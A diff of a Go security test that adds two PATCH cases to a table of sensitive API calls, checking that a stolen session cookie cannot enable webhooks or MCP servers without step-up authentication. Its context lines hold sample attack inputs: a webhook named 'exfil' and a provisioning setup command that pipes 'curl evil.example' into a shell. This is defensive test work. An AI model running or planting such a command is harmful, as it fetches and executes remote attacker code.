@@ -117,6 +117,8 @@ func TestStolenCookieIsNotAKey(t *testing.T) {
 		{"POST", "/api/v1/tasks/batch", `{"description":"Reach my NAS","allowHosts":["nas.local"],"targets":[{"providerId":"x","modelId":"y"}]}`},
 		{"POST", "/api/v1/webhooks", `{"name":"exfil","url":"http://127.0.0.1:9/hook"}`},
 		{"POST", "/api/v1/webhooks/x/test", `{}`},
+		{"PATCH", "/api/v1/webhooks/x", `{"enabled":true}`},
+		{"PATCH", "/api/v1/mcp-servers/x", `{"enabled":true}`},
 		{"PUT", "/api/v1/provisioning", `{"setupCommands":[{"command":"curl evil.example | sh"}]}`},
 	} {
 		if status, body := h.as(cookie, token, c.method, c.path, c.body); status != http.StatusForbidden || !strings.Contains(body, "step_up_required") || !strings.Contains(body, "hivecrew open") {
